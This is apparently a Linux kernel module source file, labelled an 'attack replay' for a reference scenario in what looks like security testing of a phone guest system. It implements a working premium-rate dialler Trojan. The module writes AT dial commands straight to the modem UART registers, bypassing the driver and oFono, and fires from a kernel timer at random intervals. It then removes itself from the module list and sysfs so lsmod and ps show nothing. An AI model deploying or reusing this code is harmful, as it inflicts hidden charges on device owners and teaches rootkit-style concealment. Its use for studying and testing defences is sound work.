// SPDX-License-Identifier: BSD-2-Clause
/*
 * The Trojan of the reference scenario, as bad as it can get: code at EL1 that dials
 * behind its owner's back. It writes the modem UART's registers itself, past the
 * kernel's driver and past oFono. It has no process (it lives in a kernel timer) and
 * takes itself off the module list, so ps and lsmod show nothing.
 */
#include <linux/delay.h>
#include <linux/module.h>
#include <linux/random.h>
#include <linux/timer.h>

#include "modem_line.h"

static char *number = "09005123456";
module_param(number, charp, 0);
MODULE_PARM_DESC(number, "what to dial");
static unsigned int min_ms = 20000;
module_param(min_ms, uint, 0);
static unsigned int max_ms = 60000;
module_param(max_ms, uint, 0);
MODULE_PARM_DESC(max_ms, "a call comes after min_ms to max_ms, again and again");
static unsigned int seed;
module_param(seed, uint, 0);
MODULE_PARM_DESC(seed, "0: truly random times; else the same times in each run");
static unsigned int count = 1;
module_param(count, uint, 0);
MODULE_PARM_DESC(count, "calls to make, 0 = for ever");
static bool now;
module_param(now, bool, 0);
MODULE_PARM_DESC(now, "make the first call at once");
static bool silent;
module_param(silent, bool, 0);
MODULE_PARM_DESC(silent, "do not print a line on the console for each call");
static unsigned long base;
module_param(base, ulong, 0);
MODULE_PARM_DESC(base, "address of the UART instead of the device tree's");

static void __iomem *line;
static struct timer_list alarm;
static unsigned int calls_made;

static void send_byte(char byte)
{
    int patience = 100000;

    while ((readl(line + PL011_FR) & PL011_FR_TXFF) && --patience > 0) {
        cpu_relax();
    }
    writel(byte, line + PL011_DR);
}

static void send_text(const char *text)
{
    while (*text) {
        send_byte(*text++);
    }
}

/* The leading CR ends whatever the kernel's driver was in the middle of sending. */
static void dial(void)
{
    if (!(readl(line + PL011_CR) & 1)) {
        writel(PL011_LCRH_8N1_FIFO, line + PL011_LCRH);
        writel(PL011_CR_ON, line + PL011_CR);
    }
    send_text("\rATD");
    send_text(number);
    send_text(";\r");
    calls_made++;
    if (!silent) {
        pr_emerg("ROBIN-GUEST: trojan call %u to %s\n", calls_made, number);
    }
}

/* xorshift32 (Marsaglia 2003): repeatable times for a test. */
static u32 next_random(void)
{
    if (!seed) {
        return get_random_u32();
    }
    seed ^= seed << 13;
    seed ^= seed >> 17;
    seed ^= seed << 5;
    return seed;
}

static void sleep_again(void)
{
    u32 range = max_ms > min_ms ? max_ms - min_ms : 1;

    mod_timer(&alarm, jiffies + msecs_to_jiffies(min_ms + next_random() % range));
}

static void strike(struct timer_list *unused)
{
    dial();
    if (count == 0 || calls_made < count) {
        sleep_again();
    }
}

static void hide(void)
{
    list_del_init(&THIS_MODULE->list);
    kobject_del(&THIS_MODULE->mkobj.kobj);
}

static int __init trojan_init(void)
{
    line = ioremap(base ? base : modem_line_address("serial1"), PL011_BYTES);
    if (!line) {
        return -ENOMEM;
    }
    timer_setup(&alarm, strike, 0);
    if (now) {
        strike(NULL);
    } else {
        sleep_again();
    }
    hide();
    return 0;
}

module_init(trojan_init);
MODULE_LICENSE("Dual BSD/GPL");
MODULE_DESCRIPTION("premium-rate dialler in kernel mode (attack replay)");
